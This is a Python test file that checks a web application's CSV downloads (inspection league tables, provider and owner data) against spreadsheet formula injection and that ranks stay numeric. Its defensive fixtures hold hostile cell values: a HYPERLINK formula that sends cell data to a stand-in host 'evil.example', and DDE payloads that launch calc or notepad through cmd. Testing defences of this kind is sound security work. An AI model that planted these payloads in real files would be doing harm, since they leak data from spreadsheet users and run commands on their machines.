"""Every CSV download is safe to open in a spreadsheet: no cell is read as a formula, ranks are numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest

from inspections.models import ContextualFact, InspectionSource
from tests.factories import ALL_TEN_KSS, make_inspection, make_owner, make_provider

HOSTILE_SHORT_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
HOSTILE_OWNER = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_METRIC = "-2+3+cmd|' /C calc'!A0"
HOSTILE_SOURCE = "+cmd|' /C notepad'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells(response):
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    return [cell for row in csv.reader(io.StringIO(response.getvalue().decode())) for cell in row]


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.fixture
def hostile(frameworks):
    owner = make_owner(HOSTILE_OWNER, slug="hostile-owner")
    provider = make_provider(HOSTILE_SHORT_NAME, slug="hostile-crc", area="\tTab Area", name="\rReturn name")
    inspection = make_inspection(provider, owner=owner, ratings=ALL_TEN_KSS, published_on=datetime.date(2019, 5, 1))
    # Written straight to the table: the write path would refuse it as a web address, an import might not.
    InspectionSource.objects.create(inspection=inspection, url=HOSTILE_SOURCE)
    ContextualFact.objects.create(
        inspection=inspection,
        metric=HOSTILE_METRIC,
        unit="count",
        provider_value=Decimal("3.5"),
        england_and_wales_value=Decimal("-1.5"),
        target=None,
        source_citation="=1+1",
    )
    other = make_provider("Other CRC", slug="other-crc")
    make_inspection(other, ratings=ALL_TEN_KSS, published_on=datetime.date(2019, 6, 1))
    return provider


CSV_ADDRESSES = [
    "/league.csv",
    "/providers/hostile-crc.csv",
    "/compare/hostile-crc,other-crc.csv",
    "/standards/2.3.csv",
    "/owners/hostile-owner.csv",
    "/data/inspections.csv",
    "/data/key-questions.csv",
    "/data/facts.csv",
    "/data/sources.csv",
]


@pytest.mark.django_db
@pytest.mark.parametrize("address", CSV_ADDRESSES)
def test_no_text_cell_starts_like_a_formula(client, hostile, address):
    found = cells(client.get(address))
    risky = [cell for cell in found if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
    assert not risky, f"{address} has cells a spreadsheet would run: {risky}"


@pytest.mark.django_db
def test_hostile_text_is_kept_readable_behind_an_apostrophe(client, hostile):
    league = list(csv.DictReader(io.StringIO(client.get("/league.csv").getvalue().decode())))
    row = next(row for row in league if row["provider_slug"] == "hostile-crc")
    assert row["provider"] == "'" + HOSTILE_SHORT_NAME
    assert row["owner_at_inspection"] == "'" + HOSTILE_OWNER
    assert row["sources"] == "'" + HOSTILE_SOURCE

    provider = list(csv.DictReader(io.StringIO(client.get("/providers/hostile-crc.csv").getvalue().decode())))
    by_item = {(row["section"], row["item"]): row for row in provider}
    assert by_item[("provider", "area")]["value"] == "'\tTab Area"
    assert by_item[("provider", "name")]["value"] == "'\rReturn name"
    fact = by_item[("fact", "'" + HOSTILE_METRIC)]
    # Negative numbers are numbers, not formulas: they stay as they are.
    assert (fact["value"], fact["england_and_wales"]) == ("3.5", "-1.5")


@pytest.mark.django_db
def test_negative_numbers_stay_numbers_in_the_dataset(client, hostile):
    facts = list(csv.DictReader(io.StringIO(client.get("/data/facts.csv").getvalue().decode())))
    fact = next(row for row in facts if row["metric"] == "'" + HOSTILE_METRIC)
    assert "-1.5" in fact.values()
    assert "'=1+1" in fact.values()


@pytest.mark.django_db
class TestJointRanksAreNumbers:
    @pytest.fixture(autouse=True)
    def _data(self, first_round):
        pass

    def test_league_and_owner_csvs(self, client):
        for address in ("/league.csv", "/owners/seetec.csv"):
            rows = list(csv.DictReader(io.StringIO(client.get(address).getvalue().decode())))
            assert all(row["rank"].isdigit() for row in rows), address
            assert {row["rank_is_joint"] for row in rows} <= {"true", "false"}

    def test_provider_and_comparison_csvs(self, client):
        for address in ("/providers/kss-crc.csv", "/compare/kss-crc,ddc-crc.csv"):
            rows = list(csv.DictReader(io.StringIO(client.get(address).getvalue().decode())))
            place = {
                (row["provider_slug"], row["item"]): row["value"]
                for row in rows
                if row["item"] in ("league_rank", "league_rank_is_joint")
            }
            assert place[("kss-crc", "league_rank")] == "7"
            assert place[("kss-crc", "league_rank_is_joint")] == "true"
            if "ddc-crc" in address:
                assert place[("ddc-crc", "league_rank")] == "28"
                assert place[("ddc-crc", "league_rank_is_joint")] == "false"

    def test_standard_csv(self, client):
        rows = list(csv.DictReader(io.StringIO(client.get("/standards/2.3.csv").getvalue().decode())))
        kss = next(row for row in rows if row["provider_slug"] == "kss-crc")
        assert kss["place"].isdigit() and kss["place_is_joint"] in ("true", "false")
        assert not any(row["place"].startswith("=") for row in rows)
